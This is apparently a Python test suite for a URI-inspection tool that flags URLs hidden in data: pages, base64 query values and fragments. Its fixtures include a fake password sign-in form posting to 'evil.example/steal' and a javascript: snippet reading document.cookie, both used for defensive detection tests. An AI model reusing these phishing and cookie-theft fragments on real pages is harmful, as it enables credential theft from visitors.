"""The dangerous part is never hidden (issue 15 item 8): a URL inside a data: page or
a base64 value is found, flagged with its decoded place and kept in the preview; a
``javascript:`` query keeps its ``+``."""

from __future__ import annotations

import base64
import json
from urllib.parse import unquote

from hypothesis import given, settings
from hypothesis import strategies as st

from uriinspector.core.analysis import analyze
from uriinspector.core.decoders.data_uri import TEXT_SHOWN, decode_data
from uriinspector.core.decoders.payload import (
    URL_SHOWN,
    decode_base64_text,
    excerpt_keeping,
    urls_in,
)
from uriinspector.core.decoders.percent import form_encoded_query, query_decode

ACTION = "https://evil.example/steal"


def _page(padding: int) -> str:
    return (
        "<html><head><title>Sign in</title><style>" + "body{margin:0}" * padding
        + f'</style></head><body><form action="{ACTION}" method="post">'
        '<input name="pw" type="password"></form></body></html>'
    )


def _data(page: str) -> str:
    return "data:text/html;base64," + base64.b64encode(page.encode()).decode()


def _field(uri: str, label: str):  # type: ignore[no-untyped-def]
    return next(f for f in decode_data(uri).fields if f.label == label)


# ---- the data: preview keeps the form's target (RFC 2397 §2) -----------------------------


def test_data_preview_keeps_the_form_action_when_it_shortens() -> None:
    page = _page(60)
    assert page.index(ACTION) > TEXT_SHOWN  # the old preview showed none of it
    uri = _data(page)
    text = _field(uri, "Text").value
    assert ACTION in text and text.startswith("<html><head>") and "…" in text
    assert len(text) < TEXT_SHOWN + 200
    urls = _field(uri, "URLs inside")
    assert [c.value for c in urls.children] == [ACTION]
    note = urls.children[0].note or ""
    assert f"character {page.index(ACTION):,}" in note and "<form action>" in note


def test_short_data_page_is_shown_whole() -> None:
    page = _page(0)
    assert len(page) <= TEXT_SHOWN
    assert _field(_data(page), "Text").value == page


@given(st.integers(0, 400), st.sampled_from([ACTION, "http://a.b/x?y=1", "//cdn.example/f"]))
@settings(max_examples=40, deadline=None)
def test_any_url_in_any_page_stays_in_the_preview(padding: int, url: str) -> None:
    page = "x" * padding + f'<form action="{url}"></form>' + "y" * padding
    uri = "data:text/html," + page.replace("%", "%25").replace("#", "%23")
    assert url in _field(uri, "Text").value


@given(st.text(max_size=600), st.integers(10, 300))
@settings(max_examples=80, deadline=None)
def test_excerpt_keeps_every_url_start(text: str, limit: int) -> None:
    urls = urls_in(text)
    out = excerpt_keeping(text, limit, urls)
    if len(text) <= limit:
        assert out == text
    for u in urls:
        assert u.url[:URL_SHOWN] in out


# ---- a URL inside base64 is flagged with its decoded place ----------------------------


def test_url_inside_a_base64_data_page_is_an_embedded_url_finding() -> None:
    page = _page(60)
    uri = _data(page)
    found = [f for f in analyze(uri).findings if f.code == "embedded-url"]
    assert len(found) == 1
    f = found[0]
    assert f.severity == "danger" and f.nested_url == ACTION
    assert f"at character {page.index(ACTION):,} of the decoded text" in f.message
    assert "<form action>" in f.message and "evil.example" in f.message
    assert (f.span.start, f.span.end) == (uri.index(",") + 1, len(uri))


def test_url_inside_a_base64_query_value_is_flagged() -> None:
    state = json.dumps({"user": "bob", "redirect": "https://evil.example/login"})
    value = base64.urlsafe_b64encode(state.encode()).decode().rstrip("=")
    uri = f"https://login.example.com/cb?state={value}&x=1"
    found = [f for f in analyze(uri).findings if f.code == "embedded-url"]
    assert len(found) == 1
    f = found[0]
    assert f.nested_url == "https://evil.example/login"
    assert f.span.of(uri) == value
    assert f"at character {state.index('https://'):,}" in f.message
    assert "'state'" in f.message


def test_a_value_that_is_a_base64_url_is_reported_once() -> None:
    uri = "https://t.example/r?u=" + base64.b64encode(b"https://evil.example/").decode()
    found = [f for f in analyze(uri).findings if f.code == "embedded-url"]
    assert [f.nested_url for f in found] == ["https://evil.example/"]


def test_random_identifiers_and_binary_payloads_are_not_flagged() -> None:
    for uri in (
        "https://t.example/r?id=AbCdEfGhIjKlMnOpQrStUvWx&sig=0123456789abcdef0123",
        "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 4).decode(),
        "data:text/plain;base64," + base64.b64encode(b"just words, no link").decode(),
    ):
        assert not [f for f in analyze(uri).findings if f.code == "embedded-url"], uri


def test_decoding_is_bounded_on_a_megabyte() -> None:
    big = base64.b64encode(b"<a href='https://x.example/'>" + b"z" * 900_000).decode()
    a = analyze("data:text/html;base64," + big)
    assert any(f.nested_url == "https://x.example/" for f in a.findings)
    a = analyze("https://t.example/?v=" + "QUFB" * 250_000)
    assert all(f.code != "embedded-url" for f in a.findings)


@given(st.text(max_size=300))
@settings(max_examples=80, deadline=None)
def test_payload_helpers_never_raise(text: str) -> None:
    urls_in(text)
    decode_base64_text(text)
    analyze("data:text/html;base64," + text)
    analyze("https://a.example/?s=" + text)


# ---- javascript: is percent-decoded, not form-decoded (RFC 3986 §2.1) -----------------


def test_plus_is_a_plus_outside_web_queries() -> None:
    assert query_decode("c='+document.cookie", "javascript") == "c='+document.cookie"
    assert query_decode("a+b%20c", "https") == "a b c"  # HTML forms (WHATWG URL §5.1)
    assert query_decode("a+b", None) == "a b"  # a relative link takes its page's
    assert not form_encoded_query("javascript") and not form_encoded_query("mailto")
    assert form_encoded_query("HTTP") and form_encoded_query("wss")


@given(st.text(max_size=80), st.sampled_from(["javascript", "vbscript", "data", "mailto", "foo"]))
@settings(max_examples=80, deadline=None)
def test_non_web_query_decoding_is_percent_decoding(text: str, scheme: str) -> None:
    assert query_decode(text, scheme) == (unquote(text, errors="replace") if "%" in text
                                          else text)


def test_url_inside_a_base64_fragment_value_is_flagged() -> None:
    """A single-page app reads #state=... in script; the fragment never reaches a server
    (RFC 3986 §3.5) but the page can still send the visitor on."""
    value = base64.b64encode(b'{"return_to": "https://evil.example/x"}').decode()
    uri = f"https://app.example.com/#state={value}"
    [f] = [f for f in analyze(uri).findings if f.code == "embedded-url"]
    assert f.nested_url == "https://evil.example/x" and f.span.of(uri) == value
    assert "fragment parameter 'state'" in f.message
